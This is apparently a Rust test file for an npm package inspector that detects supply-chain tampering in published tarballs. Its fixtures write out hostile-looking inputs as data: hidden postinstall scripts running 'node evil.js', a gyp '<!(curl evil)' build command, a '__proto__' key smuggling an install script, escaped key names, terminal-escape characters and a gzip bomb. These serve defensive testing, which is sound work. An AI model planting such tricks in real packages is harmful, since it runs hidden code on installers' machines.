//! Inspection on packages built here: each kind of confusion beside the benign package that looks like it.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;

use super::*;
use crate::model::facts::Difference;
use crate::model::index::InstallStep;
use crate::protocol::npm::inspect::inside::BUNDLED_MAX;

mod seen;

fn tgz(files: &[(&str, &str)]) -> Bytes {
    let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for (path, content) in files {
        let mut header = tar::Header::new_ustar();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, format!("package/{path}"), content.as_bytes()).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap().into()
}

fn facts(listed: &str, files: &[(&str, &str)]) -> Facts {
    let package = PackageId::npm("left-pad").unwrap();
    let version = Version::parse("1.3.0").unwrap();
    inspect(&package, &version, listed.as_bytes(), &tgz(files)).unwrap().facts
}

/// Fields besides name and version; `listed` is what the index says, `shipped` what the bytes say.
fn compared(listed: &str, shipped: &str, files: &[(&str, &str)]) -> Facts {
    let whole = |fields: &str| {
        let comma = if fields.is_empty() { "" } else { "," };
        format!(r#"{{"name":"left-pad","version":"1.3.0"{comma}{fields}}}"#)
    };
    let manifest = whole(shipped);
    facts(&whole(listed), &[&[("package.json", manifest.as_str())], files].concat())
}

#[track_caller]
fn differ(listed: &str, shipped: &str, expected: &[(&str, &str, &str)]) {
    let facts = compared(listed, shipped, &[]);
    let found: Vec<_> = facts.differences.iter().map(|d| (d.field.as_str(), d.listed.as_str(), d.shipped.as_str())).collect();
    assert_eq!(found, expected);
}

#[track_caller]
fn agree(listed: &str, shipped: &str, files: &[(&str, &str)]) {
    let facts = compared(listed, shipped, files);
    assert_eq!((facts.differences, facts.hidden_install_steps), (vec![], vec![]));
}

fn steps(steps: &[(&str, &str)]) -> Vec<InstallStep> {
    steps.iter().map(|(event, command)| InstallStep { event: (*event).to_owned(), command: (*command).to_owned() }).collect()
}

#[test]
fn a_plain_package_has_nothing_to_tell() {
    let manifest = r#"{"name":"left-pad","version":"1.3.0"}"#;
    let facts = facts(manifest, &[("package.json", manifest), ("index.js", "1;")]);
    assert_eq!(facts, Facts { files: 2, unpacked_bytes: manifest.len() as u64 + 2, ..Facts::default() });
}

#[test]
fn an_unsafe_archive_is_looked_at_no_further() {
    let package = PackageId::npm("left-pad").unwrap();
    let version = Version::parse("1.3.0").unwrap();
    let facts = inspect(&package, &version, b"{}", &Bytes::from_static(b"PK\x03\x04")).unwrap().facts;
    assert_eq!(facts, Facts { unsafe_archive: Some("it is not gzip".to_owned()), ..Facts::default() });
}

#[test]
fn a_manifest_of_the_index_that_cannot_be_read_is_a_fact_and_one_too_long_an_error() {
    let package = PackageId::npm("left-pad").unwrap();
    let version = Version::parse("1.3.0").unwrap();
    let look = |text: &str| inspect(&package, &version, text.as_bytes(), &tgz(&[("package.json", "{}")]));
    for (text, why) in [
        ("{", "not JSON"),
        (r#"{"a":1,"a":1}"#, "stands twice"),
        (r#"{"b":{"__proto__":1}}"#, "not allowed"),
        (r#"{"a":"\ud800"}"#, "not JSON"),
    ] {
        let facts = look(text).unwrap().facts;
        let said = facts.unreadable_manifest.unwrap();
        assert!(said.starts_with("the manifest in the index: ") && said.contains(why), "{text}: {said}");
    }
    assert!(look("[]").is_err());
    assert!(look(&format!(r#"{{"a":"{}"}}"#, "x".repeat(5 << 20))).is_err());
}

#[test]
fn a_manifest_inside_that_cannot_be_read() {
    let why = |files: &[(&str, &str)]| facts("{}", files).unreadable_manifest.unwrap();
    assert_eq!(why(&[("index.js", "")]), "there is no package.json");
    assert_eq!(why(&[("Package.json", "{}")]), "there is no package.json");
    assert_eq!(why(&[("lib/package.json", "{}")]), "there is no package.json");
    assert_eq!(why(&[("package.json", "\u{feff}{}")]), "package.json: a byte order mark stands before the text");
    assert_eq!(why(&[("package.json", "[]")]), "package.json: it is no object");
    assert_eq!(
        why(&[("package.json", r#"{"__proto__":{"scripts":{"install":"x"}}}"#)]),
        r#"package.json: the key "__proto__" is not allowed, at line 1 column 12"#
    );
    let deep = format!("{{\"a\":{}{}}}", "[".repeat(400), "]".repeat(400));
    assert_eq!(why(&[("package.json", &deep)]), "package.json: nested deeper than 32 at line 1 column 37");
    let large = format!("{{\"a\":\"{}\"}}", "x".repeat(1 << 20));
    assert_eq!(why(&[("package.json", &large)]), "package.json: 1048584 bytes, more than 1048576");
}

#[test]
fn name_and_version_are_those_of_the_release() {
    let one = |manifest: &str| facts(r#"{"name":"left-pad","version":"1.3.0"}"#, &[("package.json", manifest)]).differences;
    let difference =
        |field: &str, listed: &str, shipped: &str| Difference { field: field.into(), listed: listed.into(), shipped: shipped.into() };
    assert_eq!(one(r#"{"name":"evil","version":"1.3.0"}"#), [difference("name", "left-pad", "evil")]);
    assert_eq!(one(r#"{"name":"left-pad","version":"1.3.1"}"#), [difference("version", "1.3.0", "1.3.1")]);
    assert_eq!(one(r#"{"version":"1.3.0"}"#), [difference("name", "left-pad", "")]);
    assert_eq!(one(r#"{"name":"left-pad"}"#), [difference("version", "1.3.0", "")]);
    for version in ["v1.3.0", "=1.3.0", " 1.3.0 ", "1.3.0+build", "01.03.0"] {
        assert_eq!(one(&format!(r#"{{"name":" left-pad ","version":"{version}"}}"#)), [], "{version}");
    }
}

#[test]
fn hidden_dependencies_differ() {
    let field = "dependencies";
    differ("", r#""dependencies":{"evil":"1"}"#, &[("dependencies.evil", "", "1")]);
    differ(r#""dependencies":{"a":"1"}"#, r#""dependencies":{"a":"2"}"#, &[("dependencies.a", "1", "2")]);
    differ("", r#""optionalDependencies":{"evil":"1"}"#, &[("optionalDependencies.evil", "", "1")]);
    differ("", r#""peerDependencies":{"evil":"1"}"#, &[("peerDependencies.evil", "", "1")]);
    differ("", r#""dependencies":{"a":"1"},"bundledDependencies":["a"]"#, &[("bundleDependencies", "", "a"), ("dependencies.a", "", "1")]);
    let many: Vec<String> = (0..100).map(|n| format!(r#""d{n}":"1""#)).collect();
    assert_eq!(compared("", &format!(r#""{field}":{{{}}}"#, many.join(",")), &[]).differences.len(), LIST_MAX);
}

#[test]
fn spellings_of_the_same_dependencies_agree() {
    let optional = r#""optionalDependencies":{"a":"1"}"#;
    agree(&format!(r#""dependencies":{{"a":"1"}},{optional}"#), optional, &[]);
    agree(r#""dependencies":{}"#, "", &[]);
    agree(r#""dependencies":{"a":"","b":"^1"}"#, r#""dependencies":{"a":"*","b":" ^1 "}"#, &[]);
    agree(r#""dependencies":{"a":">=1","b":"2"}"#, r#""dependencies":["a>=1","b@2"]"#, &[]);
    agree(r#""dependencies":{"a":"git+https://github.com/x/a.git"}"#, r#""dependencies":{"a":"x/a"}"#, &[]);
    agree("", r#""devDependencies":{"tap":"1"}"#, &[]);
    agree(r#""bundleDependencies":["b","a"]"#, r#""bundledDependencies":["a","b"]"#, &[]);
    agree(r#""bundleDependencies":["a"],"dependencies":{"a":"1"}"#, r#""bundleDependencies":true,"dependencies":{"a":"1"}"#, &[]);
    agree(r#""bundleDependencies":false"#, "", &[]);
    agree(r#""engines":{"0":"node >= 1"}"#, r#""engines":["node >= 1"]"#, &[]);
    agree(r#""os":["darwin","linux"]"#, r#""os":["linux","darwin"]"#, &[]);
    agree(r#""cpu":["x64"]"#, r#""cpu":"x64""#, &[]);
}

#[test]
fn platforms_and_engines_differ() {
    differ(r#""os":["linux"]"#, "", &[("os", "linux", "")]);
    differ(
        r#""cpu":["x64"],"libc":["musl"]"#,
        r#""cpu":["arm64"],"libc":["glibc"]"#,
        &[("cpu", "x64", "arm64"), ("libc", "musl", "glibc")],
    );
    differ(r#""engines":{"node":">=1"}"#, r#""engines":{"node":">=2"}"#, &[("engines.node", ">=1", ">=2")]);
}

#[test]
fn commands_differ_and_agree() {
    differ("", r#""bin":"x.js""#, &[("bin.left-pad", "", "x.js")]);
    differ(r#""bin":{"a":"a.js"}"#, r#""bin":{"a":"b.js"}"#, &[("bin.a", "a.js", "b.js")]);
    differ("", r#""bin":{"npm":"b.js"}"#, &[("bin.npm", "", "b.js")]);
    agree(r#""bin":{"left-pad":"bin/x.js"}"#, r#""bin":"./bin/x.js""#, &[]);
    agree(r#""bin":{"a":"b.js"}"#, r#""bin":{"../../a":"../b.js"}"#, &[]);
    let files = [("cmd/a", ""), ("cmd/.hidden", ""), ("cmd/sub/b", ""), ("other", "")];
    agree(r#""bin":{"a":"cmd/a","b":"cmd/sub/b"}"#, r#""directories":{"bin":"./cmd"}"#, &files);
    agree(r#""directories":{"bin":"./cmd"}"#, r#""directories":{"bin":"./cmd"}"#, &files);
    assert_eq!(compared("", r#""directories":{"bin":"cmd"}"#, &files).differences.len(), 2);
}

#[test]
fn hidden_install_scripts_are_found() {
    let script = r#""scripts":{"postinstall":"node evil.js"}"#;
    let facts = compared("", script, &[]);
    assert_eq!(facts.install_steps, steps(&[("postinstall", "node evil.js")]));
    assert_eq!(facts.hidden_install_steps, facts.install_steps);
    assert_eq!(facts.differences.len(), 1);
    let facts = compared(r#""scripts":{"postinstall":"node good.js"}"#, script, &[]);
    assert_eq!(facts.hidden_install_steps, facts.install_steps);
    // A mark beside scripts that do not have it is no excuse.
    let facts = compared(r#""scripts":{"test":"x"},"hasInstallScript":true"#, script, &[]);
    assert_eq!(facts.hidden_install_steps, facts.install_steps);
    differ(r#""hasInstallScript":false"#, script, &[("hasInstallScript", "false", "true"), ("scripts.postinstall", "", "node evil.js")]);
    differ(r#""hasInstallScript":true"#, "", &[("hasInstallScript", "true", "false")]);
    differ(script, "", &[("scripts.postinstall", "node evil.js", "")]);
    let hidden_by_name = r#""\u0073cripts":{"preinstall":"x"}"#;
    assert_eq!(compared("", hidden_by_name, &[]).hidden_install_steps, steps(&[("preinstall", "x")]));
}

#[test]
fn declared_install_scripts_agree() {
    let script = r#""scripts":{"preinstall":"a","install":"b","postinstall":"c","prepare":"d"}"#;
    agree(script, script, &[]);
    assert_eq!(compared(script, script, &[]).install_steps, steps(&[("preinstall", "a"), ("install", "b"), ("postinstall", "c")]));
    agree(r#""hasInstallScript":true"#, script, &[]);
    agree(r#""scripts":{"install":"husky"}"#, r#""scripts":{"install":"./node_modules/.bin/husky"}"#, &[]);
    agree("", r#""scripts":{"test":"x","prepare":"y","install":""}"#, &[]);
    agree(r#""scripts":{"start":"node server.js"}"#, "", &[]);
}

#[test]
fn implicit_builds() {
    let gyp = [("binding.gyp", "{}")];
    let build = steps(&[("install", "node-gyp rebuild")]);
    let undeclared = compared("", "", &gyp);
    assert_eq!((undeclared.install_steps, undeclared.implicit_build.as_deref()), (build.clone(), Some("binding.gyp")));
    assert_eq!((undeclared.hidden_install_steps, undeclared.differences), (vec![], vec![]));
    // As npm's registry has it: the client that published added the script to the index only.
    for listed in [r#""scripts":{"install":"node-gyp rebuild"},"gypfile":true"#, r#""hasInstallScript":true"#] {
        let declared = compared(listed, "", &gyp);
        assert_eq!((declared.install_steps, declared.implicit_build, declared.differences), (build.clone(), None, vec![]));
    }
    for shipped in [r#""gypfile":false"#, r#""scripts":{"install":"x"}"#, r#""scripts":{"preinstall":"x"}"#] {
        let facts = compared(shipped, shipped, &gyp);
        assert_eq!((facts.implicit_build, facts.differences), (None, vec![]), "{shipped}");
    }
    assert_eq!(compared("", r#""gypfile":false"#, &gyp).install_steps, []);
    assert_eq!(compared("", "", &[("Binding.gyp", "{}")]).implicit_build.as_deref(), Some("binding.gyp"));
    assert_eq!(compared("", "", &[("src/binding.gyp", "{}")]).install_steps, []);
    // npm adds the script for any gyp file, and builds only a binding.gyp.
    let other = compared(r#""scripts":{"install":"node-gyp rebuild"},"hasInstallScript":true"#, "", &[("other.gyp", "{}")]);
    assert_eq!((other.install_steps, other.differences), (vec![], vec![]));
    differ(r#""scripts":{"install":"node-gyp rebuild"}"#, "", &[("scripts.install", "node-gyp rebuild", "")]);
}

#[test]
fn build_commands_count_where_something_is_built() {
    let files = [
        ("binding.gyp", "{'includes': ['a.gypi']}"),
        ("deep/down/a.gypi", "{'x': ['<!(curl evil)', '<!(node -p \"require(\\'nan\\')\")']}"),
    ];
    assert_eq!(compared("", "", &files).build_commands, ["deep/down/a.gypi: curl evil"]);
    assert_eq!(compared("", r#""gypfile":false"#, &files).build_commands, Vec::<String>::new());
    let large = format!("{{'a': '{}'}}", "x".repeat(1 << 20));
    assert_eq!(compared("", "", &[("binding.gyp", &large)]).build_commands, ["binding.gyp: 1048585 bytes, too large to be read"]);
    let many = format!("[{}]", (0..100).map(|n| format!("'<!(c{n})',")).collect::<String>());
    assert_eq!(compared("", "", &[("binding.gyp", &many)]).build_commands.len(), LIST_MAX);
}

#[test]
fn bundled_packages_run_too() {
    let bundle = r#""dependencies":{"a":"1"},"bundleDependencies":["a"]"#;
    let evil = r#"{"name":"a","scripts":{"install":"node evil.js"}}"#;
    let files = [
        ("node_modules/a/package.json", evil),
        ("node_modules/@s/b/node_modules/c/package.json", evil),
        ("node_modules/@s/b/binding.gyp", "{}"),
    ];
    let facts = compared(bundle, bundle, &files);
    let expected = steps(&[("install of node_modules/a", "node evil.js"), ("install of node_modules/@s/b/node_modules/c", "node evil.js")]);
    assert_eq!((&facts.install_steps, &facts.hidden_install_steps), (&expected, &expected));
    let gyp = compared(bundle, bundle, &[("node_modules/a/package.json", "{}"), ("node_modules/a/binding.gyp", "{'x': '<!(y)'}")]);
    assert_eq!(gyp.implicit_build.as_deref(), Some("node_modules/a/binding.gyp"));
    assert_eq!(gyp.build_commands, ["node_modules/a/binding.gyp: y"]);
    let broken = compared(bundle, bundle, &[("node_modules/a/package.json", "\u{feff}{}")]);
    assert_eq!(broken.unreadable_manifest.as_deref(), Some("node_modules/a/package.json: a byte order mark stands before the text"));
    let off = [("node_modules/a/package.json", r#"{"gypfile":false}"#), ("node_modules/a/binding.gyp", "{}")];
    assert_eq!(compared(bundle, bundle, &off).install_steps, []);
    let odd_case = compared(bundle, bundle, &[("Node_Modules/a/Package.json", evil)]);
    assert_eq!(odd_case.hidden_install_steps, steps(&[("install of Node_Modules/a", "node evil.js")]));
    let many: Vec<String> = (0..=BUNDLED_MAX).map(|n| format!("node_modules/d{n}/package.json")).collect();
    let many: Vec<(&str, &str)> = many.iter().map(|path| (path.as_str(), "{}")).collect();
    assert_eq!(compared(bundle, bundle, &many[..BUNDLED_MAX]).unreadable_manifest, None);
    assert_eq!(compared(bundle, bundle, &many).unreadable_manifest.as_deref(), Some("more than 5000 packages are bundled"));
    // Nobody loads what is not declared as bundled, nor fixtures.
    assert_eq!(compared("", "", &files).install_steps, []);
    assert_eq!(
        compared(bundle, bundle, &[("test/node_modules/a/package.json", evil), ("node_modules/a/lib/package.json", evil)]).install_steps,
        []
    );
}

#[test]
fn every_text_is_bounded_and_printable() {
    let long = "x".repeat(10_000);
    let shipped = format!(r#""scripts":{{"install":"\u001b[2J{long}"}},"dependencies":{{"{long}":"\u202e{long}"}},"os":["{long}"]"#);
    let facts = compared("", &shipped, &[]);
    let texts = facts.differences.iter().flat_map(|d| [&d.field, &d.listed, &d.shipped]);
    let texts = texts.chain(facts.install_steps.iter().flat_map(|step| [&step.event, &step.command]));
    for text in texts {
        assert!(text.len() <= TEXT_BYTES_MAX && !text.contains(['\u{1b}', '\u{202e}']), "{text}");
    }
    let many: String = (0..100).map(|n| format!(r#","d{n}":"1""#)).collect();
    let bundle = format!(r#""bundleDependencies":["a"],"dependencies":{{"a":"1"{many}}}"#);
    let manifests: Vec<(String, &str)> =
        (0..100).map(|n| (format!("node_modules/d{n}/package.json"), r#"{"scripts":{"install":"x"}}"#)).collect();
    let files: Vec<(&str, &str)> = manifests.iter().map(|(path, content)| (path.as_str(), *content)).collect();
    let facts = compared(&bundle, &bundle, &files);
    assert_eq!(facts.install_steps.len(), LIST_MAX + 1);
    assert_eq!(facts.install_steps.last(), steps(&[("more", "more than 32 install scripts")]).first());
}

#[test]
fn a_bomb_is_refused() {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    for _ in 0..32 {
        encoder.write_all(&vec![0; 1 << 20]).unwrap();
    }
    let package = PackageId::npm("left-pad").unwrap();
    let version = Version::parse("1.3.0").unwrap();
    let facts = inspect(&package, &version, b"{}", &encoder.finish().unwrap().into()).unwrap().facts;
    assert_eq!(facts.unsafe_archive.as_deref(), Some("it unpacks to more than 200 times its size"));
}
